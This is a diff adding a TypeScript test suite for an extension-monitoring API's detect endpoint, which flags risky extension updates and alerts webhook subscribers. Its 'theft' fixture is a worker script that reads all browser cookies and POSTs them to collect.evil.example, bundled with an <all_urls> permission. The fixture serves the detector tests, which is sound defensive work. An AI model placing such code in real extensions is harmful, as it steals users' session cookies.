@@ -1,0 +1,199 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { importPackage } from '../../domain/import-package.ts';
+import { type TestApp, startTestApp } from '../../testing/test-app.ts';
+import { makeTestExtension } from '../../testing/test-extension.ts';
+import {
+  type ReceivedRequest,
+  startTestReceiver,
+  verifiesSpecification,
+  verifiesStandardWebhooks,
+} from '../../testing/test-receiver.ts';
+import { startTestStore, type TestStore } from '../../testing/test-store.ts';
+import { openTestStores } from '../../testing/test-stores.ts';
+
+const modest = { permissions: ['storage', 'cookies'], background: { service_worker: 'worker.js' } };
+const greedy = { ...modest, host_permissions: ['<all_urls>'] };
+const honestCode = { 'worker.js': 'chrome.storage.local.set({ count: 1 });' };
+const theft = {
+  'worker.js': `chrome.cookies.getAll({}, (cookies) => {
+    fetch('https://collect.evil.example/in', { method: 'POST', body: JSON.stringify(cookies) });
+  });`,
+};
+
+describe('POST /api/v1/monitors/{monitorId}/detect', () => {
+  let app: TestApp;
+  let store: TestStore;
+  before(async () => {
+    store = await startTestStore();
+    const stores = new Map();
+    app = await startTestApp({ work: true, services: { stores } });
+    for (const [name, connector] of openTestStores(store, app.services))
+      stores.set(name, connector);
+    await app.work?.pretendWorker();
+    await app.work?.startWorkers({ stores });
+  });
+  after(async () => {
+    await app.close();
+    await store[Symbol.asyncDispose]();
+  });
+
+  async function watch(cookie: string, extensionId: string): Promise<string> {
+    const created = await app.send('POST', '/api/v1/monitors', {
+      cookie,
+      json: { extension_id: extensionId },
+    });
+    assert.equal(created.status, 201, created.body.error);
+    return String((created.body.data['monitor'] as { id: string }).id);
+  }
+
+  async function subscribe(cookie: string, monitorId: string, webhook: object): Promise<string> {
+    const answer = await app.send('POST', `/api/v1/monitors/${monitorId}/webhooks`, {
+      cookie,
+      json: webhook,
+    });
+    assert.equal(answer.status, 201, answer.body.error);
+    return String((answer.body.data['webhook'] as { secret: string }).secret);
+  }
+
+  const detect = (cookie: string, monitorId: string) =>
+    app.send('POST', `/api/v1/monitors/${monitorId}/detect`, { cookie });
+
+  async function importFirst(extension: ReturnType<typeof makeTestExtension>): Promise<void> {
+    const bytes = extension.pack('1.0', modest, honestCode);
+    store.publish(extension.id, '1.0', bytes);
+    await importPackage(app.services, { kind: 'bytes', bytes, name: 'first.crx' });
+  }
+
+  it('200 tells of a version that asks for <all_urls> and steals cookies; its subscribers are alerted, others not', async () => {
+    await using receiver = await startTestReceiver();
+    await using idle = await startTestReceiver();
+    const extension = makeTestExtension('Cookie Counter');
+    await importFirst(extension);
+    const cookie = await app.signIn('analyst');
+    const monitorId = await watch(cookie, extension.id);
+    const secret = await subscribe(cookie, monitorId, {
+      url: receiver.url,
+      events: ['version_update', 'permission_change', 'security_alert'],
+    });
+    await subscribe(cookie, monitorId, { url: idle.url, events: ['status_change'] });
+    const quiet = await detect(cookie, monitorId);
+    assert.deepEqual(quiet.body.data['events'], []);
+
+    store.publish(extension.id, '2.0', extension.pack('2.0', greedy, theft));
+    const { status, body } = await detect(cookie, monitorId);
+    assert.equal(status, 200, body.error);
+    assert.equal(body.data['is_pending'], false);
+    const events = body.data['events'] as DetectedEvent[];
+    const details = new Map(events.map((event) => [event.event_type, event.details]));
+    assert.deepEqual([...details.keys()].sort(), [
+      'permission_change',
+      'security_alert',
+      'version_update',
+    ]);
+    const updated = details.get('version_update');
+    assert.deepEqual([updated?.['from_version'], updated?.['to_version']], ['1.0', '2.0']);
+    assert.deepEqual(details.get('permission_change')?.['permissions_added'], ['<all_urls>']);
+    const alert = details.get('security_alert') as unknown as SecurityDetails;
+    const flows = alert.reasons.filter(({ kind }) => kind === 'flow').map(({ flow }) => flow);
+    assert.deepEqual(flows, [
+      { source: 'cookies', sink: 'network', direction: 'theft', host: 'collect.evil.example' },
+    ]);
+    assert.ok(alert.reasons.some(({ kind }) => kind === 'risk-level'));
+    assert.deepEqual(alert.diff.flows.added.length, 1);
+    assert.deepEqual(alert.diff.host_permissions, { added: ['<all_urls>'], removed: [] });
+    assert.deepEqual(
+      alert.diff.hosts.added.map(({ host }) => host),
+      ['collect.evil.example'],
+    );
+
+    const received = await receiver.until(3);
+    const alerts = received.map(({ body: bytes }) => JSON.parse(bytes.toString()) as Alert);
+    assert.deepEqual(alerts.map(({ event }) => event).sort(), [...details.keys()].sort());
+    for (const [index, { data, ...about }] of alerts.entries()) {
+      assert.deepEqual([about.monitor_id, about.extension_id], [monitorId, extension.id]);
+      assert.equal(data.extension_name, 'Cookie Counter');
+      assert.deepEqual([data.previous_version, data.new_version], ['1.0', '2.0']);
+      assert.deepEqual([data.permissions_added, data.permissions_removed], [['<all_urls>'], []]);
+      assert.equal(data.risk_level_change.from, 'low');
+      assert.notEqual(data.risk_level_change.to, 'low');
+      assert.ok(verifiesSpecification(received[index] as ReceivedRequest, secret));
+      assert.ok(verifiesStandardWebhooks(received[index] as ReceivedRequest, secret));
+    }
+
+    const again = await detect(cookie, monitorId);
+    assert.deepEqual([again.body.data['events'], again.body.data['changes']], [[], []]);
+    assert.equal(receiver.received.length, 3);
+    assert.equal(idle.received.length, 0);
+  });
+
+  it("200 raises the events of each account's own monitor", async () => {
+    const extension = makeTestExtension('Shared');
+    await importFirst(extension);
+    const [one, other] = [await app.signIn(), await app.signIn()];
+    const monitorIds = [await watch(one, extension.id), await watch(other, extension.id)];
+    await detect(one, monitorIds[0] ?? '');
+    store.publish(extension.id, '1.1', extension.pack('1.1', modest, honestCode));
+    for (const [index, cookie] of [one, other].entries()) {
+      const { body } = await detect(cookie, monitorIds[index] ?? '');
+      const events = body.data['events'] as DetectedEvent[];
+      assert.deepEqual(
+        events.map(({ event_type, monitor_id }) => [event_type, monitor_id]),
+        [['version_update', monitorIds[index]]],
+      );
+    }
+  });
+
+  it('404 for a monitor of another account, and for none', async () => {
+    const extension = makeTestExtension('Private');
+    await importFirst(extension);
+    const monitorId = await watch(await app.signIn(), extension.id);
+    const stranger = await app.signIn();
+    assert.equal((await detect(stranger, monitorId)).status, 404);
+    assert.equal((await detect(stranger, '0198c0de-0000-7000-8000-000000000000')).status, 404);
+  });
+
+  it('503 with Retry-After while the store is down, and nothing becomes obsolete', async () => {
+    const extension = makeTestExtension('Unlucky');
+    await importFirst(extension);
+    const cookie = await app.signIn();
+    const monitorId = await watch(cookie, extension.id);
+    await detect(cookie, monitorId);
+    store.faults = { lookUp: { kind: 'status', status: 503, retryAfter: '77' } };
+    const { status, headers } = await detect(cookie, monitorId);
+    store.faults = {};
+    assert.equal(status, 503);
+    assert.ok(Number(headers.get('retry-after')) >= 60);
+    const found = await app.send('GET', `/api/v1/extensions/${extension.id}`, { cookie });
+    assert.equal(found.body.data['status'], 'active');
+  });
+});
+
+interface DetectedEvent {
+  readonly event_type: string;
+  readonly monitor_id: string;
+  readonly details: Readonly<Record<string, unknown>>;
+}
+
+interface SecurityDetails {
+  readonly reasons: readonly { readonly kind: string; readonly flow?: object }[];
+  readonly diff: {
+    readonly flows: { readonly added: readonly object[] };
+    readonly host_permissions: object;
+    readonly hosts: { readonly added: readonly { readonly host: string }[] };
+  };
+}
+
+interface Alert {
+  readonly event: string;
+  readonly monitor_id: string;
+  readonly extension_id: string;
+  readonly data: {
+    readonly extension_name: string;
+    readonly previous_version: string;
+    readonly new_version: string;
+    readonly permissions_added: readonly string[];
+    readonly permissions_removed: readonly string[];
+    readonly risk_level_change: { readonly from: string; readonly to: string };
+  };
+}
